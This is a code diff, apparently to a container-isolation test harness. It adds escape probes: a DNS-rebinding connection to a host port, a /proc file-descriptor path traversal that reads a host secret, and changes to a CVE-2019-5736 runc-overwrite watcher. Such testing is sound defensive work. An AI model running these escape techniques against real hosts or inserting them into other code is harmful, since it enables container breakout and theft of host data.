@@ -499,6 +499,15 @@ def host_loopback():
 
 
 @attack
+def rebound_name():
+    """A name of a stranger's, which leads to the host (DNS rebinding)."""
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as made:
+        made.settimeout(3)
+        made.connect((socket.gethostbyname("rebound.example"), FIELD["lan"]))
+        return secret(made.recv(100), "a port of the host")
+
+
+@attack
 def sniff_host_link():
     """A packet socket on a link that has the host's address."""
     if FIELD["mac"] not in {content(f"/sys/class/net/{name}/address").strip() for name in os.listdir("/sys/class/net")}:
@@ -1083,28 +1092,51 @@ def working_directory_outside():
 
 
 def foreign():
-    """Descriptors of programs in /proc that are none of this container's, and what they are called."""
+    """PIDs of processes whose programs are none of this container's, with descriptors of those, and what they are called."""
     own_device = os.stat("/usr/bin/python3").st_dev
     for name in os.listdir("/proc"):
         try:
             if name.isdigit() and os.stat(f"/proc/{name}/exe").st_dev != own_device:
                 fd = os.open(f"/proc/{name}/exe", os.O_PATH)
-                yield fd, os.readlink(f"/proc/self/fd/{fd}")
+                yield name, fd, os.readlink(f"/proc/self/fd/{fd}")
         except OSError:
             continue
+
+
+def descriptors(pid):
+    """The host's secret by one of that process's own descriptors, "" where there is no way."""
+    path = "../" * 50 + FIELD["path"].lstrip("/")
+    try:
+        names = os.listdir(f"/proc/{pid}/fd")
+    except OSError:
+        return ""
+    for name in names:
+        try:
+            folder = os.open(f"/proc/{pid}/fd/{name}", os.O_PATH | os.O_DIRECTORY)
+        except OSError:
+            continue
+        try:
+            with open(os.open(path, os.O_RDONLY, dir_fd=folder), "rb") as file:
+                return secret(file.read(), f"descriptor {name} of a runtime")
+        except (OSError, Held):
+            continue
+        finally:
+            os.close(folder)
+    return ""
 
 
 def watch():
     """Wait for processes whose program is none of this container's, and open it for writing once it can be (CVE-2019-5736).
     Nothing is written. The answer is one line of JSON; /tmp/seen is there once a program was."""
-    programs = {}
+    programs, answers = {}, {}
     while not os.path.exists("/tmp/stop"):
-        for fd, where in foreign():
+        for pid, fd, where in foreign():
+            if found := descriptors(pid):
+                answers["descriptors"] = found
             status = os.fstat(fd)
             if programs.setdefault((status.st_dev, status.st_ino), (fd, where))[0] != fd:
                 os.close(fd)
             open("/tmp/seen", "w").close()
-    answers = {}
     until = time.monotonic() + PATIENCE_S
     for fd, where in programs.values():
         answer = "ETXTBSY"
